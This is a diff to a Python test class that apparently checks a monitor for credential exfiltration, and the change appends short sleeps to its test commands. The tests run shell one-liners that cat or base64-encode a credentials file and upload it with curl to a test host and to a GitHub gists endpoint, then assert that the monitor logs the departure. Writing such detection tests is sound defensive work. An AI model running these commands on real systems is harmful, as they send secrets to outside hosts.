@@ -85,8 +85,8 @@ class Departure(SystemCase):
                       f"then curl called {self.host}:443", found)
 
     def test_what_cat_read_and_a_pipe_carried(self):
-        lines = {"cat": f"cat {CREDENTIALS} | curl -sk -T - https://{self.host}/",
-                 "base64": f'curl -sk -d "$(base64 {CREDENTIALS})" https://{self.host}/'}
+        lines = {"cat": f"cat {CREDENTIALS} | curl -sk -T - https://{self.host}/; sleep 0.5",
+                 "base64": f'curl -sk -d "$(base64 {CREDENTIALS})" https://{self.host}/; sleep 0.5'}
         for line in lines.values():
             self.start(["/bin/sh", "-c", line]).wait(code=None)
         found = self.departures()
@@ -96,7 +96,8 @@ class Departure(SystemCase):
             self.assertIn(f"then curl called {self.host}:443", text)
 
     def test_what_a_pipe_carried_to_a_place_that_does_not_take_the_key(self):
-        self.start(["/bin/sh", "-c", f"cat {CREDENTIALS} | curl -sk -T - https://api.github.com/gists"]).wait(code=None)
+        self.start(["/bin/sh", "-c", f"cat {CREDENTIALS} | curl -sk -T - https://api.github.com/gists; "
+                    "sleep 0.5"]).wait(code=None)
         found, = self.departures()
         self.assertIn(f": cat read key {self.key.id} ", found)
         self.assertIn("then curl called api.github.com:443", found)
